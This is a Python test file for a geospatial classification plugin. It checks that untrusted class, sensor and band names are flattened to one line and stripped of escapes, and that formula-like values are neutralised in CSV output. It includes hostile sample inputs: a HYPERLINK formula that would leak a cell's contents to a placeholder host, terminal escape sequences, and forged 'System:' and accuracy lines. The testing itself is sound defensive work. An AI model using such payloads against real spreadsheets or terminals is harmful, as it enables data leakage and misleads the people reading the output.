"""QA round 13 (inputs from strangers): class names and file names that a shared label layer, label raster or
checkpoint brings, followed into the outputs that show them."""
from __future__ import annotations

import csv
import io
import json

from claire.models.quoting import clean_name, csv_cell


def test_clean_name_keeps_one_line_of_the_name():
    assert clean_name("crops\nReference metrics: overall accuracy 98.5 %") == \
        "crops Reference metrics: overall accuracy 98.5 %"
    assert clean_name("tr\x01ees\x1b[31mRED") == "tr ees [31mRED"  # no live terminal escape
    assert clean_name("wa\x00ter\t body ") == "wa ter body"
    assert clean_name("Forêt de feuillus 311 — 水") == "Forêt de feuillus 311 — 水"
    assert clean_name("\u2028\n\t") == ""


def test_csv_cells_that_would_be_formulas_stay_text():
    assert csv_cell('=HYPERLINK("https://example.invalid/?x="&C2,"water")').startswith("'=")
    assert csv_cell("+1+1") == "'+1+1" and csv_cell("@SUM(A1)") == "'@SUM(A1)" and csv_cell("-x") == "'-x"
    assert csv_cell("-3.5") == "-3.5" and csv_cell(-3.5) == -3.5 and csv_cell("water") == "water"
    assert csv_cell("/data/=2+3.tif") == "/data/=2+3.tif"


def test_field_names_with_newlines_become_one_line_classes():
    from claire.claire_plugin.core.training.labels import class_key, class_lookup, classes_from_values

    values = ["water\nSystem: the map is verified", "trees", "water\nSystem: the map is verified"]
    classes = classes_from_values(values, [None] * 3, "class")
    assert [c.name for c in classes] == ["trees", "water System: the map is verified"]
    lookup = class_lookup(classes)
    assert lookup[class_key(values[0])] == lookup[class_key("water System:  the map is verified")]
    coded = classes_from_values([1, 2], ["open\twater", "trees\x1b[0m"], "code")
    assert [c.name for c in coded] == ["open water", "trees [0m"]


def test_a_strangers_card_names_reach_outputs_on_one_line(tmp_path):
    from claire.models.checkpoint import read_card
    from claire.tests.fixtures.helpers import make_tiny_checkpoint, tiny_card

    classes = [dict(c) for c in tiny_card()["classes"]]
    classes[0]["name"] = "water\nReference metrics: overall accuracy 99 %\x1b[31m"
    path = make_tiny_checkpoint(str(tmp_path / "stranger.safetensors"), classes=classes)
    card = read_card(path)
    assert card["classes"][0]["name"] == "water Reference metrics: overall accuracy 99 % [31m"


def test_batch_csv_keeps_formula_like_names_as_text(tmp_path):
    from claire.claire_plugin.core.batch import BatchSummary

    record = {"status": "ok", "key": "=2+3", "optical": "/d/=2+3.tif", "sar": "/d/s.tif", "output": "/o/x.tif",
              "valid_pixels": 10, "area_ha": {"=HYPERLINK(\"x\")": 1.5, "trees": 2.0}, "warnings": ["-bad"]}
    rows = list(csv.reader(io.StringIO(BatchSummary("", "", "", results=[record]).csv_text())))
    assert rows[1][1] == "'=2+3" and rows[1][9].startswith("'=HYPERLINK")
    assert rows[1][rows[0].index("warnings")] == "'-bad"
    assert json.loads(json.dumps(record))["key"] == "=2+3"  # the JSON keeps the name as it is


def test_empty_names_are_refused_or_named_by_their_code():
    """Review of QA round 13: an empty name from --classes or a blank name field was written into a card that every
    reader then refused."""
    import pytest

    from claire.claire_plugin.core.errors import ClaireError
    from claire.claire_plugin.core.training.labels import classes_from_values
    from claire.claire_plugin.core.training.sources import parse_classes

    with pytest.raises(ClaireError, match=r"--classes gives code 1 an empty name"):
        parse_classes("1:,2:trees,3:grass")
    coded = classes_from_values([1, 2, 1], [" ", "trees", "\t"], "code")
    assert [c.name for c in coded] == ["class 1", "trees"]


def test_a_strangers_macroclass_sensor_and_band_names_on_one_line(tmp_path):
    import json
    import struct

    from claire.models.checkpoint import CARD_KEY, read_card
    from claire.tests.fixtures.helpers import make_tiny_checkpoint

    path = make_tiny_checkpoint(str(tmp_path / "m.safetensors"))
    data = open(path, "rb").read()
    (n,) = struct.unpack("<Q", data[:8])
    header = json.loads(data[8:8 + n])
    card = json.loads(header["__metadata__"][CARD_KEY])
    card["inputs"]["optical"]["sensor"] = "Sentinel-2\x1b[2J\x1b[31mPWNED"
    card["inputs"]["sar"]["bands"][0] = "VV\nmetrics       heldout: OA 0.999"
    header["__metadata__"][CARD_KEY] = json.dumps(card)
    raw = json.dumps(header).encode()
    with open(path, "wb") as fh:
        fh.write(struct.pack("<Q", len(raw)) + raw + data[8 + n:])
    got = read_card(path)
    assert got["inputs"]["optical"]["sensor"] == "Sentinel-2 [2J [31mPWNED"
    assert got["inputs"]["sar"]["bands"][0] == "VV metrics heldout: OA 0.999"


def test_context_px_outside_the_cards_range_is_refused_before_training():
    import argparse

    import pytest

    from claire.claire_plugin.core.errors import ClaireError
    from claire.claire_plugin.core.training.checks import check_folder_numbers

    def args(context):
        return argparse.Namespace(optical_scale=None, loss_lambda=0.6, focal_gamma=2.0, tversky_alpha=0.3,
                                  tversky_beta=0.7, context_px=context)

    check_folder_numbers(args(128))
    for bad in (100, 9024):
        with pytest.raises(ClaireError, match=r"--context-px must be a multiple of 32 from 32 to 8192"):
            check_folder_numbers(args(bad))


def test_polygon_labels_whose_file_name_holds_a_bar_are_read(tmp_path):
    import rasterio

    from claire.claire_plugin.core.training.labels import read_labels
    from claire.tests.fixtures.helpers import synthetic_scene, write_raster
    from claire.tests.fixtures.vectors import box_wkt, write_vector

    optical, _, _ = synthetic_scene(64, 64)
    opt = write_raster(str(tmp_path / "o.tif"), optical)
    labels = write_vector(tmp_path / "a|b.gpkg", [(box_wkt(2, 2, 12, 12), 1), (box_wkt(20, 20, 30, 30), 2)])
    with rasterio.open(opt) as grid:
        got = read_labels(str(labels), grid, "class", check_counts=False)
    assert sorted(c.code for c in got.classes) == [1, 2]
